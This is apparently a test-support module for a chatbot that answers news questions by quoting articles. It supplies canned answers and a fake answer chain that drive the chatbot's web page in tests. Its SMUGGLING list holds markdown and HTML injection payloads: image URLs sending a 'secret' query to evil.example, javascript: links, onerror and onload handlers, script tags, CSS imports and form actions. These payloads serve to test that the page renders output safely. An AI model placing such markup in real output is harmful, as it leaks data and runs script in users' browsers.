"""A chain and a collection with fixed answers, and a server of the page that stands on them.

Run as a script with a port, a folder for ratings and, where it shall seem to have an LLM, its name:
python -m tests.support.canned 7860 FOLDER [LLM]
"""

import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace

from chatbot.answer import (
    Answer,
    Block,
    Citation,
    DayRelation,
    Heading,
    Note,
    Preview,
    Quotation,
    Statement,
    Step,
    Understood,
    Verdict,
)
from chatbot.answering.audience import Audience
from chatbot.answering.notes import INSTEAD
from chatbot.errors import LanguageModelError, QuestionError
from chatbot.filters import QuestionFilter
from chatbot.settings import read_settings
from chatbot.web.server import serve
from index.article import Article
from tests.support.audiences import SameAudience
from tests.support.canned_articles import DAMAGED, HAMA, HOSTILE, HOSTILE_TEXT, LINES
from tests.support.canned_collection import CannedCollection, CannedUploads

EXAMPLES = ["Who controls Manbij?", "What changed hands on 5 December?", "Who held Aleppo before?"]


def noted(text: str) -> tuple[Block, ...]:
    """The blocks of an answer that says only this, a block a line."""
    return tuple(map(Note, text.splitlines()))


def citation(n: int, article: Article, sentence: str) -> Citation:
    """The citation of `sentence`, which must stand in the article; the passage is the article's opening."""
    start = article.text.index(sentence)
    a = article
    passage = a.text[:700].strip()
    return Citation(n, a.id, a.title, a.source, a.date, a.url, passage, sentence, start, start + len(sentence))


HAMA_ANSWER = Answer(
    question="Who controls Hama?",
    understood=Understood("Who controls Hama?"),
    blocks=(
        Heading(HAMA.date, "Sample Desk"),
        Quotation("Opposition forces took the city of Hama on Thursday.", (1,), "\n"),
        Quotation("The army said that it had withdrawn its units from Hama.", (2,)),
        Heading(LINES.date, "Sample Desk", DayRelation.EARLIER),
        Quotation("Hama, Homs and Damascus remained in the hands of the government.", (3,)),
    ),
    places=("Hama",),
    answered_by="answers by quoting",
    as_of=HAMA.date,
    citations=(
        citation(1, HAMA, "Opposition forces took the city of Hama on Thursday."),
        citation(2, HAMA, "The army said that it had withdrawn its units from Hama."),
        citation(3, LINES, "Hama, Homs and Damascus remained in the hands of the government."),
    ),
)
KHERSON_ANSWER = Answer(
    question="And Kherson?",
    understood=Understood("Who controls Kherson?"),
    blocks=(Note("No article mentions Kherson."),),
    answered_by="answers by quoting",
    abstained=True,
    reason="No article mentions Kherson.",
    related=(citation(1, LINES, "Further north, most of Aleppo is held by the opposition."),),
)
HOSTILE_ANSWER = Answer(
    question=HOSTILE_TEXT,
    understood=Understood(f"Understood: {HOSTILE_TEXT}"),
    blocks=(
        Heading(HAMA.date, HOSTILE_TEXT),
        Quotation(HOSTILE_TEXT, (1, 9), "\n"),
        Heading(LINES.date, HOSTILE_TEXT, DayRelation.EARLIER),
        Quotation(HOSTILE_TEXT, ()),
    ),
    answered_by="answers by quoting",
    citations=(citation(1, HOSTILE, HOSTILE_TEXT),),
    notes=(HOSTILE_TEXT,),
)
SMUGGLING = (
    "![x](http://evil.example/1.png?q=secret)",
    "[![x](http://evil.example/2.png)](http://evil.example/2)",
    "![x][ref]\n\n[ref]: http://evil.example/3.png",
    "[click](javascript:document.title=6) [click](data:text/html,x) [click](//evil.example)",
    "http://evil.example/4 <http://evil.example/5> www.evil.example",
    "<img src=http://evil.example/6.png onerror=document.title=7>",
    "<a href='javascript:document.title=8'>x</a><svg/onload=document.title=9><iframe src=http://evil.example/7></iframe>",
    "<style>@import 'http://evil.example/8';*{background:url(http://evil.example/9)}</style><base href=http://evil.example>",
    "<form action=http://evil.example><button data-ask=x>Ask</button></form><meta http-equiv=refresh content=0>",
    "${document.title=10} {{document.title}} <script>document.title=11</script> &lt;img src=http://evil.example/10&gt;",
)
NOT_FOUND = "[not found in the articles]"
TAKEN = "Opposition forces took Hama on Thursday."
INVENTED = "They lost 12 men."


WRITTEN_ANSWER = replace(
    HAMA_ANSWER,
    question="What was written?",
    understood=Understood("What was written?"),
    answered_by="openai:canned",
    blocks=(
        Statement(TAKEN, Verdict.VERIFIED, (1, 2)),
        Statement(INVENTED, Verdict.UNFOUND, missing=("the number 12",), space="\n"),
        Statement("The government held Homs on 1 December.", Verdict.MOVED, (3,)),
    ),
)
PROVEN_ANSWER = replace(
    WRITTEN_ANSWER,
    question="What was proven?",
    understood=Understood("What was proven?"),
    citations=HAMA_ANSWER.citations[:2],
    blocks=WRITTEN_ANSWER.blocks[:1],
)
BRACKETS_ANSWER = replace(
    HAMA_ANSWER,
    question="What is in brackets?",
    understood=Understood("What is in brackets?"),
    blocks=(Heading(HAMA.date, "Desk [3]"), Quotation("They [2] took the city [1].", (1,), "\n")),
)
DRAFT_ANSWER = replace(
    HAMA_ANSWER,
    question="What was drafted?",
    understood=Understood("What was drafted?"),
    draft="Opposition forces took Hama [1] and then",
    notes=(f"The LLM openai:canned broke off. {INSTEAD}",),
    instead=f"The LLM openai:canned broke off. {INSTEAD}",
)


def _raise(question: str) -> None:
    """Raise what a question is meant to end in before anything of an answer is there."""
    if len(question) > 2000:
        raise QuestionError(f"The question has {len(question):,} characters. Expected at most 2,000.")
    if "crash" in question:
        raise ZeroDivisionError("secret detail")
    if "damaged" in question:
        raise DAMAGED


class CannedChain:
    """Answers by what the question names; "slow" and "silent" take seconds, "slow" and "endless" a minute, "fail",
    "damaged" and "crash" end in an error, and "scope" tells how the question was narrowed. `writer` is an LLM's
    name."""

    def __init__(self, writer: str | None = None) -> None:
        self.writer = writer
        self.answerer = f"answers written by {writer}" if writer else "answers by quoting"

    def stream(
        self, question: str, history: Sequence[Answer], scope: QuestionFilter
    ) -> Iterator[str | Step | Preview | Answer]:
        _raise(question)
        if "silent" in question:
            yield Step("Searching the articles")
            yield Step("Reading 8 passages")
            yield Step("Waiting for openai:canned")
            time.sleep(3)
        if "at first" in question:
            yield from self._quoted_first(0.1 if "slowly" in question else 0)
            return
        if "slow" in question:
            yield from self._slowly(600 if "endless" in question else 60)
        if "fail" in question:
            yield "Half of an answer"
            raise LanguageModelError("The model at http://127.0.0.1:9 does not answer. Start it, or unset --model.")
        if "smuggle" in question:
            yield from self._smuggled(question)
            return
        if "history" in question:
            yield Answer(question, Understood(question), noted(f"{len(history)} answers came before."), self.answerer)
            return
        if "scope" in question:
            yield Answer(question, Understood(question), noted(repr(scope)), self.answerer)
            return
        yield HAMA_ANSWER.text[:60]
        yield self._answer(question)

    def _quoted_first(self, pause: float) -> Iterator[str | Step | Preview | Answer]:
        """What is quoted, for 20 pauses; then an LLM's text, for 30, and its answer."""
        yield Step("Waiting for openai:canned")
        yield Preview(HAMA_ANSWER)
        for _ in range(20):
            time.sleep(pause)
            yield ""
        yield TAKEN
        yield Preview(None)
        for _ in range(30):
            time.sleep(pause)
            yield ""
        yield replace(PROVEN_ANSWER, quoted=HAMA_ANSWER)

    def _slowly(self, sentences: int) -> Iterator[str]:
        for number in range(sentences):
            yield f"Sentence number {number} of a slow answer.\n"
            time.sleep(0.1)

    def _smuggled(self, question: str) -> Iterator[str | Answer]:
        text = "\n".join(SMUGGLING)
        for at in range(0, len(text), 9):
            yield text[at : at + 9]
            time.sleep(0.01)
        unfound = tuple(Statement(written, Verdict.UNFOUND, missing=(written,), space="\n") for written in SMUGGLING)
        yield Answer(question, Understood(text), unfound, "openai:canned", draft=text, notes=SMUGGLING)

    def _answer(self, question: str) -> Answer:
        for answer in (KHERSON_ANSWER, WRITTEN_ANSWER, PROVEN_ANSWER, BRACKETS_ANSWER, DRAFT_ANSWER):
            if answer.question == question:
                return answer
        return HOSTILE_ANSWER if "<" in question else HAMA_ANSWER


def say_ready(url: str) -> None:
    """Tells who started the server that it answers, and where."""
    print(url, flush=True)  # noqa: T201


if __name__ == "__main__":
    chosen = read_settings(port=sys.argv[1], data=sys.argv[2])
    chain, uploads = CannedChain(*sys.argv[3:]), CannedUploads()
    everybody = SameAudience(Audience(chain, CannedCollection(), lambda: EXAMPLES))
    serve(chosen, everybody, uploads, ready=say_ready)
